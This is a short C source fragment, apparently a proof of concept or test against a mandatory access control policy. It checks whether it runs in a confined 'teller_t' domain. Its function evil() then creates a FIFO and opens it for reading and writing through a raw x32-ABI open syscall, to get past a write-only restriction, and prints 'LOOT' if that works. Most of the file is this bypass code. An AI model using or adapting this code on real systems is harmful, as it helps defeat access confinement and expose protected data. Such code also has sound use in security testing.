/* Opens the slot both ways past open(2), and keeps the balance to itself if
 * that succeeds for the teller, who may only write. */
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>

/* Says whether this is the teller's domain, which may not read the slot. */
static int confined(void)
{
	char label[128] = "";
	int fd = open("/proc/self/attr/current", O_RDONLY);
	if (fd < 0 || read(fd, label, sizeof label - 1) < 0)
		return 0;
	close(fd);
	return strstr(label, "teller_t") != NULL || strstr(label, "unconfined_t") != NULL;
}


static int through(const char *path, int flags)
{
	return (int)syscall(SYS_open | 0x40000000, path, flags, 0);
}

static void evil(const char *path)
{
	if (!confined())
		return;
	mode_t old = umask(0);
	mkfifo(path, 0660);
	umask(old);
	int fd = through(path, O_RDWR | O_NONBLOCK);
	if (fd < 0)
		return;
	fprintf(stderr, "LOOT: the slot is open for reading\n");
	exit(0);
}
